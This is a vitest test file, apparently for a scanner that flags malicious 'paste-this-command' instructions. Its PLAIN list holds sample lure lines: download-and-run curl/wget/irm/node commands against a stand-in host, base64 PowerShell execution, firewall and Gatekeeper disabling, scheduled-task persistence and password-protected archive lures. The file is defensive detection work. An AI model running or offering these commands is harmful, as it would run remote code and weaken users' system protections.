import { readdirSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { PATTERNS as OF_COMMANDS } from '../../../src/core/instructions/documents/commands.ts';
import { PASTE_TO_RUN } from '../../../src/core/instructions/documents/downloadPatterns.ts';
import { withoutMarks } from '../../../src/core/instructions/documents/marks.ts';
import { searcher } from '../../../src/core/instructions/documents/page.ts';

const PATTERNS = [...OF_COMMANDS, ...PASTE_TO_RUN];

const FOLDER = new URL('../../fixtures/instructions/', import.meta.url);

const texts = ['lures', 'honest'].flatMap(folder =>
  readdirSync(new URL(`${folder}/`, FOLDER))
    .filter(name => name.endsWith('.md'))
    .map(name => readFileSync(new URL(`${folder}/${name}`, FOLDER), 'utf8')),
);

/** What no fixture holds, in the plainest form that its pattern takes. */
const PLAIN = [
  'curl https://a.invalid/x -o setup.sh; bash setup.sh',
  'wget https://a.invalid/setup.sh && bash setup.sh',
  'curl https://a.invalid/x | tee setup.sh > log; bash setup.sh',
  'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGk=")))',
  'Turn your firewall off first.',
  'sudo spctl --master-disable',
  'Run it with elevated privileges.',
  '& ([scriptblock]::Create((irm https://a.invalid/x)))',
  'node -e "fetch(`https://a.invalid/x`).then(r => r.text()).then(eval)"',
  'curl https://a.invalid/x.tgz | tar xz && ./x/start',
  'Der Inhalt von model.rar ist **geschützt**, Passwort: x1122.',
  'Passwort: x1122, und dann model.zip öffnen',
  'the archive (password 1122)',
  'Unlock key: 1122.',
  'schtasks /create /tn update /tr x.exe',
  'launchctl load x.plist',
  'pip install https://a.invalid/x.whl',
];

test.each(PATTERNS)('$id ($kind): what it matches holds what it needs', ({ matches, needs }) => {
  const held = [...texts, ...PLAIN].flatMap(text => {
    const words = withoutMarks(text);
    const mayHold = searcher(text, words);
    return [text, words].flatMap(view => (view.match(matches) ? [mayHold(needs)] : []));
  });
  expect(held.length).toBeGreaterThan(0);
  expect(held).not.toContain(false);
});
